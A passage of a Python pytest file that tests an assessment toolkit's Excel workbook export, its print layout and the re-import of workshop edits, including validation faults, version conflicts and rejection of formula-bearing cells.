"""The Excel workbook: what it shows, and the offline workshop round trip back into the database.

Every test works on the demo data (assessment 2 is the in-progress review, 3 the barely started
draft, 1 the final baseline) in a SQLite file of its own, copied from one demo load per module.
"""

from __future__ import annotations

import io
import shutil
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from assessment.demo.builder import load_demo
from assessment.errors import AssessmentLocked, WorkbookRefused
from assessment.reports.data import ReportData, gather_report
from assessment.reports.excel_export import write_workbook
from assessment.reports.excel_import import (
    CellFault,
    WorkbookChanges,
    read_workbook,
)
from assessment.reports.excel_layout import META_SHEET
from assessment.reports.excel_print import LINE_HEIGHT, line_room, text_width, wrapped_lines
from assessment.reports.spreadsheet_safety import neutralize
from assessment.scoring.findings import Finding
from assessment.scoring.numbers import percent
from assessment.services import assessments as A
from assessment.services.actions import create_action
from assessment.services.assessments import open_assessment
from assessment.services.audit import events
from assessment.services.evidence_adding import add_note
from assessment.services.responses import set_response
from assessment.services.workbooks import apply_workbook_changes
from assessment.storage.store import Store
from assessment.workflow.response import Response
from tests.people import ADMIN, admin

TODAY = date(2026, 3, 15)
ACTOR = admin("Maria Nowak (workshop import)")
SHEETS = ["Summary", "Clauses", "Criteria", "Findings", "Actions", "Evidence"]
# The Criteria columns as exported (import finds them by header; tests use the letters).
ID, TARGET, SCORE, NA, NOTES, FINDING, REASON = "A", "D", "F", "G", "H", "I", "J"


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory) -> Path:
    """One demo load per module (the slow part); each test copies the file."""
    path = tmp_path_factory.mktemp("demo") / "demo.db"
    store = Store.open(f"sqlite:///{path}")
    load_demo(store, ADMIN, today=TODAY)
    store.dispose()
    return path


@pytest.fixture
def demo(demo_file: Path, tmp_path: Path) -> Iterator[Store]:
    """The demo data in a database file of this test's own."""
    copy = tmp_path / "iso10002.db"
    shutil.copy(demo_file, copy)
    opened = Store.open(f"sqlite:///{copy}")
    yield opened
    opened.dispose()


@pytest.fixture(scope="module")
def review(demo_file: Path, tmp_path_factory) -> tuple[ReportData, Path]:
    """Assessment 2's report data and workbook, exported once from the demo as loaded: every
    test's own copy of the demo holds the same responses and versions. Tests must not edit the
    file in place (`edited` returns new bytes)."""
    folder = tmp_path_factory.mktemp("exported")
    shutil.copy(demo_file, folder / "demo.db")
    store = Store.open(f"sqlite:///{folder / 'demo.db'}")
    data = gather_report(store, ADMIN, 2, today=TODAY)
    store.dispose()
    return data, write_workbook(data, folder / "review.xlsx")


@pytest.fixture(scope="module")
def exported(review) -> tuple[ReportData, openpyxl.Workbook]:
    """Assessment 2's workbook, opened with openpyxl, for the tests that only read it."""
    data, path = review
    return data, openpyxl.load_workbook(path)


def export(store: Store, tmp_path: Path, assessment_id: int = 2) -> Path:
    return write_workbook(
        gather_report(store, ADMIN, assessment_id, today=TODAY), tmp_path / f"a{assessment_id}.xlsx"
    )


def row_of(sheet: Worksheet, criterion_id: str) -> int:
    for row in range(2, sheet.max_row + 1):
        if sheet[f"{ID}{row}"].value == criterion_id:
            return row
    raise AssertionError(f"{criterion_id} not in the sheet")


def edited(path: Path, change: Callable[[Worksheet], None]) -> bytes:
    """The workbook after a client's edits in the Criteria sheet, as the bytes they send back."""
    workbook = openpyxl.load_workbook(path)
    change(workbook["Criteria"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def set_cells(cells: dict[str, object]) -> Callable[[Worksheet], None]:
    """A client's edits, as {"F12": 3}."""

    def change(sheet: Worksheet) -> None:
        for ref, value in cells.items():
            sheet[ref] = value

    return change


def stored(store: Store, assessment_id: int = 2) -> dict[str, tuple[Response, int]]:
    opened = open_assessment(store, ADMIN, assessment_id, today=TODAY)
    return {cid: (s.response, s.version) for cid, s in opened.responses.items()}


def preview(store: Store, content: bytes | Path, assessment_id: int = 2) -> WorkbookChanges:
    return read_workbook(content, open_assessment(store, ADMIN, assessment_id, today=TODAY))


def unanswered(data: ReportData) -> str:
    return next(
        c.id for c in data.assessment.checklist.criteria if c.id not in data.assessment.responses
    )


# --- what the workbook shows ----------------------------------------------------------------


def test_the_workbook_has_six_sheets_and_a_very_hidden_key(exported) -> None:
    _, workbook = exported
    assert workbook.sheetnames == [*SHEETS, META_SHEET]
    assert [s.sheet_state for s in workbook.worksheets] == ["visible"] * 6 + ["veryHidden"]
    key = {row[0]: row[1] for row in workbook[META_SHEET].iter_rows(values_only=True)}
    assert key["assessment_id"] == 2
    assert key["format"] == "iso10002-workbook/1"
    assert key["checklist_hash"].startswith("sha256:")


@pytest.mark.parametrize(
    ("sheet", "freeze", "first_header"),
    [
        ("Clauses", "A2", "Ref"),
        ("Criteria", "B2", "ID"),
        ("Findings", "A2", "ID"),
        ("Actions", "C2", "Ref"),
        ("Evidence", "C2", "Ref"),
    ],
)
def test_every_table_has_a_styled_header_frozen_panes_and_a_filter(
    exported, sheet, freeze, first_header
) -> None:
    table = exported[1][sheet]
    assert table.freeze_panes == freeze
    header = table["A1"]
    assert header.value == first_header
    assert header.font.bold
    assert header.fill.fgColor.rgb.endswith("1F4E78")
    assert table.auto_filter.ref.startswith("A1:")
    assert table.column_dimensions["A"].width > 0


def drop_down(workbook: openpyxl.Workbook, formula: str) -> list[object]:
    """The entries a list validation offers: inline ones, or the cells it refers to."""
    if formula.startswith('"'):
        return formula.strip('"').split(",")
    sheet, cells = formula.rsplit("!", 1)
    found = workbook[sheet.strip("'")][cells.replace("$", "")]
    return [row[0].value for row in found]


def test_the_score_column_drops_down_the_levels_with_their_labels_and_na(exported) -> None:
    data, workbook = exported
    sheet = workbook["Criteria"]
    assert sheet[f"{SCORE}1"].value == "Score"
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    last = 1 + len(data.assessment.checklist.criteria)
    score = validations[f"{SCORE}2:{SCORE}{last}"]
    assert score.type == "list"
    levels = data.assessment.checklist.scale.levels
    assert drop_down(workbook, score.formula1) == [
        *(f"{level.value} - {level.label}" for level in levels),
        "N/A",
    ]
    assert "3 - Implemented and documented" in drop_down(workbook, score.formula1)
    assert score.showErrorMessage
    assert score.errorStyle == "warning"  # a bare number typed by hand may stay
    finding = validations[f"{FINDING}2:{FINDING}{last}"]
    assert drop_down(workbook, finding.formula1) == [f.label for f in Finding]


def test_colours_are_conditional_on_score_readiness_findings_overdue_and_status(exported) -> None:
    workbook = exported[1]
    ranges = {
        sheet: {str(cf.sqref) for cf in workbook[sheet].conditional_formatting}
        for sheet in SHEETS[1:]
    }
    last = workbook["Criteria"].max_row
    assert f"{SCORE}2:{SCORE}{last}" in ranges["Criteria"]
    rules = [r for cf in workbook["Criteria"].conditional_formatting for r in cf.rules]
    number = 'IFERROR(VALUE(LEFT($F2,FIND(" ",$F2&" ")-1)),"")'  # "3 - ..." or 3 alike
    assert [r.formula[0] for r in rules] == [
        '$F2="N/A"',
        f"AND(ISNUMBER({number}),{number}>=$D2)",
        f"AND(ISNUMBER({number}),$D2-{number}>=2)",
        f"AND(ISNUMBER({number}),{number}<$D2)",
    ]
    assert any(r.startswith("D2:") for r in ranges["Clauses"])
    assert any(r.startswith("G2:") for r in ranges["Findings"])
    assert any(r.startswith("A2:S") for r in ranges["Actions"])
    assert any(r.startswith("E2:") for r in ranges["Evidence"])


def test_criteria_rows_match_the_report_data(exported) -> None:
    data, workbook = exported
    sheet = workbook["Criteria"]
    opened = data.assessment
    scale = opened.checklist.scale
    assert sheet.max_row == 1 + len(opened.checklist.criteria)
    for row, result in enumerate(opened.score.criteria, start=2):
        stored_response = opened.responses.get(result.id)
        response = stored_response.response if stored_response else Response()
        assert sheet[f"{ID}{row}"].value == result.id
        assert sheet[f"{TARGET}{row}"].value == result.target
        expected_score = (
            "N/A"
            if response.is_not_applicable
            else f"{response.score} - {scale.label(response.score)}"
            if response.score is not None
            else None
        )
        assert sheet[f"{SCORE}{row}"].value == expected_score, result.id
        assert sheet[f"{NA}{row}"].value == (response.not_applicable or None)
        assert sheet[f"{NOTES}{row}"].value == (neutralize(response.notes) or None)
        assert sheet[f"{FINDING}{row}"].value == (
            response.finding.label if response.finding else None
        )
        assert sheet[f"O{row}"].value == opened.version_of(result.id)  # hidden version


def test_summary_shows_readiness_completion_verdict_and_every_reason(exported) -> None:
    data, workbook = exported
    sheet = workbook["Summary"]
    facts = {row[0]: row[1] for row in sheet.iter_rows(min_row=4, max_col=2, values_only=True)}
    overall = data.assessment.score.overall
    assert facts["Organization"] == data.assessment.record.organization_name
    assert facts["Readiness"] == pytest.approx(overall.readiness)
    assert facts["Completion"] == pytest.approx(overall.completion)
    assert facts["Verdict"] == overall.verdict.label
    assert facts["Overdue actions"] == len(data.overdue_actions())
    assert facts["Baseline readiness"] == percent(data.comparison.readiness_before)
    messages = {row[1] for row in sheet.iter_rows(min_row=4, max_col=2, values_only=True)}
    assert {r.message for r in overall.reasons} <= messages
    assert "not a certification" in sheet["A2"].value


def test_clauses_show_each_clause_readiness(exported) -> None:
    data, workbook = exported
    rows = list(workbook["Clauses"].iter_rows(min_row=2, values_only=True))
    clauses = data.assessment.score.clauses
    assert [r[0] for r in rows] == [c.ref for c in clauses]
    for row, clause in zip(rows, clauses, strict=True):
        assert row[3] == (pytest.approx(clause.readiness) if clause.readiness is not None else None)
        assert row[5:8] == (clause.answered, clause.applicable, clause.total)


def test_findings_list_nonconformities_and_opportunities_most_serious_first(exported) -> None:
    data, workbook = exported
    rows = list(workbook["Findings"].iter_rows(min_row=2, values_only=True))
    expected = [
        c
        for c in data.assessment.score.criteria
        if c.finding and c.finding is not Finding.CONFORMING
    ]
    assert sorted(r[0] for r in rows) == sorted(c.id for c in expected)
    order = [Finding.MAJOR.label, Finding.MINOR.label, Finding.OFI.label]
    labels = [r[6] for r in rows]
    assert labels == sorted(labels, key=order.index)


def test_the_actions_sheet_flags_exactly_the_overdue_actions(exported) -> None:
    data, workbook = exported
    rows = list(workbook["Actions"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [a.ref for a in data.actions]
    overdue = {r[0] for r in rows if r[8] == "Yes"}
    assert overdue == {a.ref for a in data.overdue_actions()}
    assert overdue  # the demo has overdue actions as of TODAY
    for row, action in zip(rows, data.actions, strict=True):
        assert row[5] == (action.owner or None)
        assert (row[6].date() if row[6] else None) == action.due


def test_the_evidence_sheet_shows_hash_dates_and_status_as_of_the_day(exported) -> None:
    data, workbook = exported
    rows = list(workbook["Evidence"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(data.evidence)
    for row, record in zip(rows, data.evidence, strict=True):
        assert row[0] == record.ref
        assert row[4] == record.status_on(TODAY).label
        assert row[8] == record.sha256
        assert (row[7].date() if row[7] else None) == record.valid_until
    assert "Expired" in {r[4] for r in rows}


def test_only_the_response_cells_are_open_and_the_helpers_are_hidden(exported) -> None:
    sheet = exported[1]["Criteria"]
    assert sheet.protection.sheet
    assert [sheet[f"{c}2"].protection.locked for c in "ABCDEFGHIJKLMNOP"] == [
        *[True] * 5,
        *[False] * 5,
        *[True] * 6,
    ]
    assert [sheet.column_dimensions[c].hidden for c in "MNOP"] == [False, True, True, True]


def test_nothing_in_the_workbook_is_a_formula(exported) -> None:
    for sheet in exported[1].worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title


def test_write_workbook_replaces_the_file_whole_and_leaves_no_temporary(demo, tmp_path) -> None:
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"an older report")
    data = gather_report(demo, ADMIN, 3, today=TODAY)
    assert write_workbook(data, target) == target
    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"
    assert sorted(p.name for p in tmp_path.iterdir() if "out" in p.name) == ["out.xlsx"]
    with pytest.raises(FileNotFoundError):
        write_workbook(data, tmp_path / "no such folder" / "out.xlsx")


# --- how the workbook prints -------------------------------------------------------------------

# The Criteria columns that print: everything up to Evidence, not the hidden helpers after it.
LAST_PRINTED = "M"


def test_every_sheet_prints_one_page_wide_with_margins_and_page_numbers(exported) -> None:
    data, workbook = exported
    for name in SHEETS:
        sheet = workbook[name]
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, name
        # One page wide; 0 pages tall means "as many as it takes".
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0), name
        margins = sheet.page_margins
        assert min(margins.left, margins.right, margins.top, margins.bottom) > 0, name
        assert sheet.oddHeader.left.text == "&A", name  # the sheet's own name
        assert sheet.oddHeader.right.text == data.assessment.record.title, name
        assert sheet.oddFooter.right.text == "Page &P of &N", name


def test_each_table_repeats_its_header_row_on_every_printed_page(exported) -> None:
    workbook = exported[1]
    assert workbook["Summary"].print_title_rows is None  # no table, no header row
    for name in SHEETS[1:]:
        assert workbook[name].print_title_rows == "$1:$1", name
        assert workbook[name].print_options.gridLines, name


def test_wide_sheets_print_landscape_and_the_summary_portrait(exported) -> None:
    workbook = exported[1]
    orientation = {name: workbook[name].page_setup.orientation for name in SHEETS}
    assert orientation == {
        "Summary": "portrait",
        "Clauses": "landscape",
        "Criteria": "landscape",
        "Findings": "landscape",
        "Actions": "landscape",
        "Evidence": "landscape",
    }


def test_the_print_area_holds_every_shown_column_and_row_but_not_the_hidden_helpers(
    exported,
) -> None:
    data, workbook = exported
    last = 1 + len(data.assessment.checklist.criteria)
    criteria = workbook["Criteria"]
    assert criteria.print_area == f"'Criteria'!$A$1:${LAST_PRINTED}${last}"
    assert criteria[f"{LAST_PRINTED}1"].value == "Evidence"
    assert [criteria.column_dimensions[c].hidden for c in "NOP"] == [True] * 3
    for name in ("Summary", "Clauses", "Findings", "Actions", "Evidence"):
        sheet = workbook[name]
        end = get_column_letter(sheet.max_column)
        assert sheet.print_area == f"'{name}'!$A$1:${end}${sheet.max_row}", name


def test_summary_labels_print_beside_their_values(exported) -> None:
    """Both columns are in the print area of a sheet printed one page wide, so a label and its
    value always land on the same page."""
    sheet = exported[1]["Summary"]
    assert sheet.print_area == f"'Summary'!$A$1:$B${sheet.max_row}"
    assert sheet.page_setup.fitToWidth == 1
    labels = 0
    for label, value in sheet.iter_rows(min_row=4, max_col=2):
        if label.value is None:
            break  # the end of the facts
        labels += 1
        assert value.value is not None, label.value  # the value is in the same row
        assert label.alignment.vertical == value.alignment.vertical == "top", label.value
    assert labels >= 15


def test_rows_are_as_tall_as_their_wrapped_text(exported) -> None:
    workbook = exported[1]
    sheet = workbook["Criteria"]
    width = sheet.column_dimensions["C"].width
    tallest = 0
    for row in range(2, sheet.max_row + 1):
        question = sheet[f"C{row}"]
        assert question.alignment.wrap_text
        lines = wrapped_lines(question.value, line_room(width))
        tallest = max(tallest, lines)
        height = sheet.row_dimensions[row].height or LINE_HEIGHT
        assert height >= lines * LINE_HEIGHT, (row, question.value, height)
    assert tallest >= 3  # the check means something: some questions wrap to three lines
    # A sheet without wrapping text keeps Excel's own row height.
    clauses = workbook["Clauses"]
    assert {clauses.row_dimensions[r].height for r in range(2, clauses.max_row + 1)} == {None}


def test_a_long_note_makes_its_row_taller_up_to_excels_limit(demo, tmp_path) -> None:
    paragraph = "The complaint log was checked against the case files for March. " * 4
    set_response(demo, admin("deniz"), 2, "4.1.a", Response(3, notes=paragraph), expected_version=1)
    set_response(
        demo, admin("deniz"), 2, "4.1.b", Response(3, notes=paragraph * 40), expected_version=1
    )
    sheet = openpyxl.load_workbook(export(demo, tmp_path))["Criteria"]
    room = line_room(sheet.column_dimensions[NOTES].width)
    assert sheet.row_dimensions[2].height == wrapped_lines(paragraph, room) * LINE_HEIGHT
    assert sheet.row_dimensions[2].height >= 5 * LINE_HEIGHT
    assert sheet.row_dimensions[3].height == 409  # the most a row can be


def test_the_page_header_shows_an_ampersand_in_the_title_as_typed(demo, tmp_path) -> None:
    current = open_assessment(demo, ADMIN, 2, today=TODAY)
    renamed = A.create_assessment(
        demo, admin("maria"), current.record.organization_id, current.checklist, "R&D & service"
    )
    sheet = openpyxl.load_workbook(export(demo, tmp_path, renamed.id))["Criteria"]
    assert sheet.oddHeader.right.text == "R&&D && service"  # "&&" prints as one "&"


@pytest.mark.parametrize(
    ("text", "room", "lines"),
    [  # a digit is one unit wide, a space half a unit
        ("", 10, 1),
        ("12345", 10, 1),
        ("1234567890", 10, 1),
        ("1234 5678", 8.5, 1),
        ("1234 5678", 8, 2),  # words wrap whole
        ("1234 5678 9012", 10, 2),
        ("1" * 25, 10, 3),  # a hash or a link breaks across lines
        ("1" * 20, 10, 2),
        ("12 " + "1" * 15, 10, 3),  # "12" / ten digits / five
        ("1\n2\n\n4", 10, 4),  # each line end starts a line, an empty line too
        ("1\r\n2", 10, 2),
        ("1     2", 10, 1),
    ],
)
def test_wrapped_lines_counts_lines_as_a_wrapping_cell_shows_them(text, room, lines) -> None:
    assert wrapped_lines(text, room) == lines


def test_the_line_estimate_agrees_with_what_libreoffice_printed() -> None:
    """Measured on the demo workbook printed by LibreOffice (DejaVu Sans, wider than Excel's
    Calibri): the estimate may keep a spare line, but must never promise a line too few."""
    first_line = "Has the organization stated in its policy or procedure which"
    assert wrapped_lines(first_line, line_room(50)) == 1  # one line in the Question column
    assert wrapped_lines(first_line + " complaints-handling", line_room(50)) == 2
    sha256 = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"
    assert wrapped_lines(sha256, line_room(16)) >= 5  # 15 characters a line in 16 units
    assert text_width("MW") > text_width("ab") > text_width("il")
    assert line_room(50, font_size=14) < line_room(50)
    assert line_room(50, bold=True) < line_room(50)


# --- the workshop round trip -------------------------------------------------------------------


@pytest.mark.parametrize("assessment_id", [2, 3])
def test_a_workbook_sent_back_untouched_changes_nothing(demo, tmp_path, assessment_id) -> None:
    path = export(demo, tmp_path, assessment_id)
    changes = preview(demo, edited(path, lambda sheet: None), assessment_id)
    assert (changes.changes, changes.faults, changes.missing) == ((), (), ())


def test_the_round_trip_applies_exactly_the_workshop_edits_and_names_the_actor(
    demo, review
) -> None:
    path = review[1]
    data = gather_report(demo, ADMIN, 2, today=TODAY)
    sheet = openpyxl.load_workbook(path)["Criteria"]
    fresh = unanswered(data)
    r_score, r_notes, r_na, r_new = (row_of(sheet, c) for c in ("4.1.a", "4.1.b", "4.1.c", fresh))
    before = stored(demo)
    content = edited(
        path,
        set_cells(
            {
                f"{SCORE}{r_score}": 5,
                f"{NOTES}{r_notes}": "Seen the signed mapping, 12 March",
                f"{SCORE}{r_na}": "N/A",
                f"{NA}{r_na}": "No change to the process this year",
                f"{SCORE}{r_new}": 2,
                f"{NOTES}{r_new}": "Answered in the workshop",
                f"{FINDING}{r_new}": "Opportunity for improvement",
                f"{REASON}{r_new}": "Works, but could be faster",
            }
        ),
    )
    changes = preview(demo, content)
    assert changes.faults == ()
    assert [
        (c.criterion_id, [(f.field, f.before, f.after) for f in c.fields]) for c in changes.changes
    ] == [
        ("4.1.a", [("score", 3, 5)]),
        ("4.1.b", [("notes", before["4.1.b"][0].notes, "Seen the signed mapping, 12 March")]),
        (
            "4.1.c",
            [("score", 2, "N/A"), ("not_applicable", None, "No change to the process this year")],
        ),
        (
            fresh,
            [
                ("score", None, 2),
                ("notes", "", "Answered in the workshop"),
                ("finding", None, Finding.OFI),
                ("finding_reason", None, "Works, but could be faster"),
            ],
        ),
    ]
    assert str(changes.changes[0]) == "4.1.a: score: 3 → 5"

    written = apply_workbook_changes(demo, ACTOR, 2, changes)

    assert set(written) == {"4.1.a", "4.1.b", "4.1.c", fresh}
    after = stored(demo)
    assert after["4.1.a"] == (Response(5, notes=before["4.1.a"][0].notes), 2)
    assert after["4.1.b"][0].notes == "Seen the signed mapping, 12 March"
    assert after["4.1.c"][0].not_applicable == "No change to the process this year"
    assert after[fresh] == (
        Response(2, None, "Answered in the workshop", Finding.OFI, "Works, but could be faster"),
        1,
    )
    untouched = set(before) - {"4.1.a", "4.1.b", "4.1.c"}
    assert {cid: after[cid] for cid in untouched} == {cid: before[cid] for cid in untouched}
    for cid in ("4.1.a", "4.1.b", "4.1.c", fresh):
        assert {e.actor for e in events(demo, ADMIN, 2, criterion_id=cid)} >= {ACTOR.name}
    assert [
        (e.field, e.before, e.after)
        for e in events(demo, ADMIN, 2, criterion_id="4.1.a")
        if e.actor == ACTOR.name
    ] == [("score", 3, 5)]


def test_a_blank_workbook_works_the_same(demo, tmp_path) -> None:
    current = open_assessment(demo, ADMIN, 2, today=TODAY)
    blank = A.create_assessment(
        demo, admin("maria"), current.record.organization_id, current.checklist, "Workshop 2027"
    )
    path = export(demo, tmp_path, blank.id)
    sheet = openpyxl.load_workbook(path)["Criteria"]
    assert {sheet[f"{SCORE}{r}"].value for r in range(2, sheet.max_row + 1)} == {None}
    changes = preview(
        demo,
        edited(path, set_cells({"F2": 3, "F3": "4", "F4": "n/a", "G4": "Not offered"})),
        blank.id,
    )
    assert [c.criterion_id for c in changes.changes] == ["4.1.a", "4.1.b", "4.1.c"]
    apply_workbook_changes(demo, ACTOR, blank.id, changes)
    assert stored(demo, blank.id) == {
        "4.1.a": (Response(3), 1),
        "4.1.b": (Response(4), 1),
        "4.1.c": (Response(None, "Not offered"), 1),
    }


def test_a_level_picked_from_the_list_and_a_number_typed_by_hand_both_import(demo, review) -> None:
    path = review[1]
    workbook = openpyxl.load_workbook(path)
    validation = next(
        v for v in workbook["Criteria"].data_validations.dataValidation if str(v.sqref)[0] == SCORE
    )
    choices = drop_down(workbook, validation.formula1)
    content = edited(
        path,
        set_cells(
            {
                "F2": choices[5],  # "5 - Continually improved", as picked in Excel
                "F3": "1",  # typed by hand, stored as text
                "F4": 4,  # typed by hand, stored as a number
                "F5": " 2 \u2013 partly IMPLEMENTED ",  # an en dash from autocorrect, other case
            }
        ),
    )
    changes = preview(demo, content)
    assert changes.faults == ()
    apply_workbook_changes(demo, ACTOR, 2, changes)
    after = stored(demo)
    assert choices[5] == "5 - Continually improved"
    assert [after[c][0].score for c in ("4.1.a", "4.1.b", "4.1.c", "4.2.a")] == [5, 1, 4, 2]


@pytest.mark.parametrize(
    ("kind", "cells", "fault"),
    [
        ("off the scale", {"F2": 7}, "Criteria!F2: 7 is not on the scale (0 to 5)"),
        ("negative", {"F2": -1}, "Criteria!F2: -1 is not on the scale (0 to 5)"),
        ("fraction", {"F2": 2.5}, "Criteria!F2: 2.5 is not a whole number on the scale (0 to 5)"),
        (
            "text in the score",
            {"F2": "good"},
            "Criteria!F2: 'good' is not a score: pick 0 to 5 or N/A from the list "
            "(such as '5 - Continually improved'), or type the number alone",
        ),
        (
            "a level with another level's label",
            {"F2": "4 - Implemented and documented"},
            "Criteria!F2: '4 - Implemented and documented' does not match the scale, where 4 "
            "is '4 - Measured and managed'",
        ),
        (
            "a level off the scale",
            {"F2": "6 - Excellent"},
            "Criteria!F2: '6 - Excellent': 6 is not on the scale (0 to 5)",
        ),
        ("N/A without reason", {"F2": "N/A"}, "Criteria!G2: N/A needs a reason"),
        (
            "score and N/A reason",
            {"G2": "Not for us"},
            "Criteria!F2: both a score (3) and a N/A reason (G2) are given",
        ),
        (
            "reason without N/A",
            {"F2": None, "G2": "Not for us"},
            "Criteria!G2: a N/A reason needs N/A in F2",
        ),
        (
            "override without reason",
            {"I2": "Minor nonconformity"},
            "Criteria!J2: a finding override needs a reason",
        ),
        (
            "reason without override",
            {"J2": "Because"},
            "Criteria!I2: a finding reason (J2) needs a finding override here",
        ),
        (
            "unknown finding",
            {"I2": "Severe", "J2": "x"},
            "Criteria!I2: 'Severe' is not a finding class",
        ),
        ("formula in notes", {"H2": "=1+2"}, "Criteria!H2: a formula is not taken here"),
        ("formula in the score", {"F2": "=2+1"}, "Criteria!F2: a formula is not taken here"),
        (
            "changed criterion id",
            {"A2": "4.1.z"},
            "Criteria!A2: the criterion id was changed from 4.1.a to '4.1.z'",
        ),
        ("added row", {"A200": "4.99.x", "F200": 3}, "Criteria!A200: unknown criterion '4.99.x'"),
        (
            "added row of a known id",
            {"A200": "4.1.a", "F200": 3},
            "Criteria!A200: a row added by hand for 4.1.a",
        ),
        ("values without an id", {"F200": 3}, "Criteria!A200: a row without a criterion id"),
        (
            "copied row",
            {"A200": "4.1.a", "N200": "4.1.a", "O200": 1, "P200": "0" * 20},
            "Criteria!A200: 4.1.a is listed twice (rows 2 and 200)",
        ),
        ("helper changed", {"F2": 4, "O2": "two"}, "Criteria!O2: a hidden helper cell was changed"),
    ],
)
def test_each_invalid_cell_is_reported_and_nothing_is_applied(
    demo, review, kind, cells, fault
) -> None:
    path = review[1]
    assert openpyxl.load_workbook(path)["Criteria"]["A2"].value == "4.1.a"
    # Every case also carries one valid edit, which must not be applied either.
    content = edited(path, set_cells({"F3": 5, **cells}))
    before = stored(demo)
    changes = preview(demo, content)
    assert len(changes.faults) == 1, changes.faults
    assert str(changes.faults[0]).startswith(fault), kind
    with pytest.raises(WorkbookRefused) as refused:
        apply_workbook_changes(demo, ACTOR, 2, changes)
    assert refused.value.faults == changes.faults
    assert str(changes.faults[0]) in str(refused.value)
    assert stored(demo) == before


def test_every_invalid_cell_is_reported_at_once(demo, review) -> None:
    path = review[1]
    content = edited(
        path, set_cells({"F2": 9, "H3": "=A1", "F4": "N/A", "I5": "Major nonconformity"})
    )
    faults = preview(demo, content).faults
    assert faults == (
        CellFault("Criteria", "F2", "9 is not on the scale (0 to 5)"),
        CellFault("Criteria", "H3", "a formula is not taken here: type the value itself"),
        CellFault("Criteria", "G4", "N/A needs a reason: say why this criterion does not apply"),
        CellFault("Criteria", "J5", "a finding override needs a reason"),
    )


def test_a_row_left_alone_is_not_imported_even_when_the_app_changed_it(demo, review) -> None:
    path = review[1]
    set_response(
        demo, admin("deniz"), 2, "4.1.a", Response(1, notes="Rechecked"), expected_version=1
    )
    changes = preview(demo, edited(path, set_cells({"F3": 5})))
    assert [c.criterion_id for c in changes.changes] == ["4.1.b"]
    apply_workbook_changes(demo, ACTOR, 2, changes)
    assert stored(demo)["4.1.a"] == (Response(1, notes="Rechecked"), 2)


def test_editing_a_response_changed_in_the_app_since_the_export_is_a_conflict(demo, review) -> None:
    path = review[1]
    set_response(
        demo, admin("deniz"), 2, "4.1.a", Response(1, notes="Rechecked"), expected_version=1
    )
    before = stored(demo)
    changes = preview(demo, edited(path, set_cells({"F2": 4, "F3": 5})))
    assert len(changes.faults) == 1
    fault = changes.faults[0]
    assert (fault.sheet, fault.cell) == ("Criteria", "F2")
    assert "4.1.a was changed in the app by deniz" in fault.message
    assert "(version 1, now 2)" in fault.message
    with pytest.raises(WorkbookRefused):
        apply_workbook_changes(demo, ACTOR, 2, changes)
    assert stored(demo) == before


def test_a_change_between_preview_and_apply_stops_the_whole_import(demo, review) -> None:
    path = review[1]
    data = gather_report(demo, ADMIN, 2, today=TODAY)
    fresh = unanswered(data)
    sheet = openpyxl.load_workbook(path)["Criteria"]
    changes = preview(demo, edited(path, set_cells({"F2": 4, **{f"F{row_of(sheet, fresh)}": 1}})))
    assert changes.ok
    assert len(changes.changes) == 2
    set_response(demo, admin("deniz"), 2, fresh, Response(3), expected_version=0)
    before = stored(demo)
    with pytest.raises(WorkbookRefused) as refused:
        apply_workbook_changes(demo, ACTOR, 2, changes)
    assert [f.cell for f in refused.value.faults] == [f"F{row_of(sheet, fresh)}"]
    assert stored(demo) == before


def test_the_same_change_already_made_in_the_app_is_not_a_conflict(demo, review) -> None:
    path = review[1]
    notes = stored(demo)["4.1.a"][0].notes
    set_response(demo, admin("deniz"), 2, "4.1.a", Response(4, notes=notes), expected_version=1)
    changes = preview(demo, edited(path, set_cells({"F2": 4})))
    assert (changes.changes, changes.faults) == ((), ())


def test_deleted_rows_are_listed_and_left_as_they_are(demo, review) -> None:
    path = review[1]
    before = stored(demo)
    changes = preview(demo, edited(path, lambda sheet: sheet.delete_rows(2, 2)))
    assert (changes.changes, changes.faults, changes.missing) == ((), (), ("4.1.a", "4.1.b"))
    apply_workbook_changes(demo, ACTOR, 2, changes)
    assert stored(demo) == before


def test_sorted_rows_and_moved_columns_still_import(demo, review) -> None:
    path = review[1]

    def shuffle(sheet: Worksheet) -> None:
        rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
        for index, values in enumerate(reversed(rows), start=2):
            for column, value in enumerate(values, start=1):
                sheet.cell(index, column).value = value
        sheet.insert_cols(1)  # a column of the client's own, in front
        sheet["A1"] = "Our remarks"
        sheet[f"G{row_of_shifted(sheet, '4.1.a')}"] = 0

    changes = preview(demo, edited(path, shuffle))
    assert changes.faults == ()
    assert [(str(c)) for c in changes.changes] == ["4.1.a: score: 3 → 0"]


def row_of_shifted(sheet: Worksheet, criterion_id: str) -> int:
    return next(r for r in range(2, sheet.max_row + 1) if sheet[f"B{r}"].value == criterion_id)


# --- refused workbooks --------------------------------------------------------------------------


def test_a_workbook_of_another_assessment_is_refused(demo, tmp_path) -> None:
    path = export(demo, tmp_path, 3)
    with pytest.raises(WorkbookRefused, match="belongs to assessment 3") as refused:
        preview(demo, path, 2)
    assert "import it into the assessment it was exported from" in str(refused.value)


def test_a_workbook_made_with_other_checklist_content_is_refused(demo, tmp_path) -> None:
    path = export(demo, tmp_path)
    workbook = openpyxl.load_workbook(path)
    key = workbook[META_SHEET]
    row = next(r for r in range(1, key.max_row + 1) if key.cell(r, 1).value == "checklist_hash")
    key.cell(row, 2).value = "sha256:" + "0" * 64
    workbook.save(path)
    with pytest.raises(WorkbookRefused, match="exported against other checklist content"):
        preview(demo, path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"name,score\n4.1.a,3\n", "not an Excel workbook"),
        (b"", "not an Excel workbook"),
        ("plain workbook", "not exported by the toolkit"),
        ("no score column", "no column headed 'Score'"),
    ],
)
def test_a_file_that_is_not_an_exported_workbook_is_refused(
    demo, tmp_path, content, message
) -> None:
